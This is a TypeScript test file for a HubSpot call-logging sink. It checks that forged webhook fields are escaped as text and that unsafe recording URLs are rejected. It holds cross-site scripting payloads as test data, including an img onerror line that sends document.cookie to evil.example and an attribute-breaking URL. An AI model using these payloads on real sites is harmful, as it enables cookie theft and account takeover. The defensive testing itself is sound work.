import { describe, it, before, after, beforeEach } from 'mocha';
import { expect } from 'chai';
import { settleDelivery, type CallEvent } from '@callrelay/core';
import { HubSpotEmulator, MemoryKeyValueStore, sampleEvent, testContext } from '@callrelay/testkit';
import hubspot, { HubSpotSink, hubspotConfig } from '../src/index.js';
import { plainTitle, recordingLink } from '../src/html.js';

// Issue 12: a caller ID name is typed by the caller, and ids, numbers and URLs come from webhooks
// anyone can forge when a source has no auth. hs_call_body is HTML in HubSpot's UI.

const SCRIPT = '<script>alert(document.cookie)</script>';
const IMG = '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">';
const EVIL_RECORDING = 'https://evil.example/a" onmouseover="alert(1)" x="';

/** The tags of an HTML text, with their attributes. */
const tags = (html: string) => [...html.matchAll(/<\/?([a-zA-Z][\w-]*)([^>]*)>/g)].map((m) => ({ name: m[1]!.toLowerCase(), attributes: m[2]!.trim() }));

/** Asserts that the body holds only the template's own markup: these tags, and links only to `hrefs`. */
function expectOnlyTemplateMarkup(body: string, hrefs: string[] = []): void {
  for (const tag of tags(body)) {
    expect(['p', 'ul', 'li', 'a', 'b'], `unexpected <${tag.name}> in ${body}`).to.include(tag.name);
    if (tag.attributes === '') continue;
    const href = /^href="([^"]*)"$/.exec(tag.attributes)?.[1];
    expect(href !== undefined && hrefs.includes(href), `unexpected attributes ${tag.attributes}`).to.equal(true);
  }
}

describe('hubspot sink: attacker-controlled values (issue 12)', function () {
  this.timeout(10_000);
  const emulator = new HubSpotEmulator();
  const sink = (config: Record<string, unknown> = {}) =>
    hubspot.create(hubspotConfig.parse({ accessToken: HubSpotEmulator.DEFAULT_TOKEN, baseUrl: emulator.url, ...config }), testContext({ state: new MemoryKeyValueStore() })) as HubSpotSink;
  let n = 0;
  const logged = async (target: HubSpotSink, event: CallEvent) => {
    const outcome = await settleDelivery(() => target.deliver(event, { deliveryId: `hubspot-injection/${++n}`, attempt: 1, pipeline: 'p', signal: new AbortController().signal }));
    expect(outcome.status, JSON.stringify(outcome)).to.equal('delivered');
    return emulator.calls.at(-1)!.properties;
  };

  before(async () => { await emulator.start(); });
  after(async () => { await emulator.stop(); });
  beforeEach(() => { emulator.reset(); emulator.clearObjects(); });

  const hostile = (overrides: Partial<CallEvent> = {}) => sampleEvent({
    from: { raw: `+1212${IMG}`, name: SCRIPT },
    to: { raw: '+14155550100', e164: '+14155550100', name: '<b onclick=x>Sales</b>' },
    agent: { raw: '102', extension: '102', name: IMG },
    callId: `c-1${SCRIPT}`,
    call: { legs: [], rang: ['101', SCRIPT], transfers: 0, recordingUrls: [], eventCount: 1 },
    recordingUrl: EVIL_RECORDING,
    ...overrides,
  });

  it('writes every event field into the default notes as text, never as markup or a link to the attacker', async () => {
    for (const type of ['missed', 'completed'] as const) {
      const properties = await logged(sink(), hostile({ type, talkSeconds: type === 'completed' ? 30 : 0 }));
      expectOnlyTemplateMarkup(properties.hs_call_body!);
      expect(properties.hs_call_body).to.include('&lt;script&gt;alert(document.cookie)&lt;/script&gt;');
      expect(properties.hs_call_body).to.not.include('evil.example/a');
      expect(properties).to.not.have.property('hs_call_recording_url');
    }
  });

  it('bug: a body template without | escape inserted a caller name as HTML; every output is escaped now', async () => {
    const body = '<p>{{ from.name }} called, agent {{ display.agent }}, call {{ callId }}</p><p>{{ display.caller | escape }}</p>';
    const properties = await logged(sink({ body }), hostile());
    expectOnlyTemplateMarkup(properties.hs_call_body!);
    expect(properties.hs_call_body).to.equal(
      '<p>&lt;script&gt;alert(document.cookie)&lt;/script&gt; called, agent &lt;img src=x onerror=&#34;fetch(&#39;https://evil.example/&#39;+document.cookie)&#34;&gt; (102), '
      + 'call c-1&lt;script&gt;alert(document.cookie)&lt;/script&gt;</p>'
      + `<p>&lt;script&gt;alert(document.cookie)&lt;/script&gt; (+1212&lt;img src=x onerror=&#34;fetch(&#39;https://evil.example/&#39;+document.cookie)&#34;&gt;)</p>`,
    );
  });

  it('escapes once: | escape in a template is not doubled, and a value already written as entities stays text', async () => {
    const body = '<p>{{ from.name }}|{{ from.name | escape }}|{{ to.name }}</p>';
    const properties = await logged(sink({ body }), hostile({
      from: { raw: '+12125551212', e164: '+12125551212', name: 'Tom & Jerry <3' },
      to: { raw: '+14155550100', name: 'AT&amp;T &lt;b&gt;' },
    }));
    expect(properties.hs_call_body).to.equal('<p>Tom &amp; Jerry &lt;3|Tom &amp; Jerry &lt;3|AT&amp;T &lt;b&gt;</p>');
    expectOnlyTemplateMarkup(properties.hs_call_body!);
  });

  it('links a clean https recording in the notes and in hs_call_recording_url', async () => {
    const url = 'https://pbx.example.com/rec/1.wav?sig=a&exp=1';
    const properties = await logged(sink(), hostile({ type: 'completed', talkSeconds: 5, recordingUrl: url }));
    expect(properties.hs_call_recording_url).to.equal(url);
    expectOnlyTemplateMarkup(properties.hs_call_body!, ['https://pbx.example.com/rec/1.wav?sig=a&amp;exp=1']);
  });

  it('writes a title that cannot form markup, on one line', async () => {
    const properties = await logged(sink(), hostile({ from: { raw: '+12125551212', e164: '+12125551212', name: `Jane\r\n${SCRIPT}` } }));
    expect(properties.hs_call_title).to.equal('Missed call from Jane ‹script›alert(document.cookie)‹/script› (+12125551212)');
    expect(plainTitle('AT&T\t<b>x</b>\x1b[31m')).to.equal('AT&T ‹b›x‹/b› [31m');
  });

  it('accepts https recording URLs only, without white space, quotes, < > or |', () => {
    expect(recordingLink('https://pbx.example.com/r/1.wav')).to.equal('https://pbx.example.com/r/1.wav');
    for (const bad of [EVIL_RECORDING, 'http://pbx.example.com/r.wav', 'https://a.example/x y', 'https://a.example/<x>', "https://a.example/'", 'javascript:alert(1)', 'https://']) {
      expect(recordingLink(bad), bad).to.equal(undefined);
    }
  });
});
